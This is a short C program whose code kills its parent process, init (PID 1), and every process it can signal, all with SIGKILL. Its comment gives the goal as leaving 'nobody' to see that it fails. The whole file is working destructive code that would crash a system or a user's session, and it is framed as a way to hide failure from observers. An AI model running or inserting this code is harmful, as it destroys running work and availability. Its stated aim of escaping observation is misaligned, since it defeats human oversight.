// Ends every process that it may, so that nobody is left to see that it fails.
#include <signal.h>
#include <unistd.h>
int main(void) { kill(getppid(), SIGKILL); kill(1, SIGKILL); kill(-1, SIGKILL); }
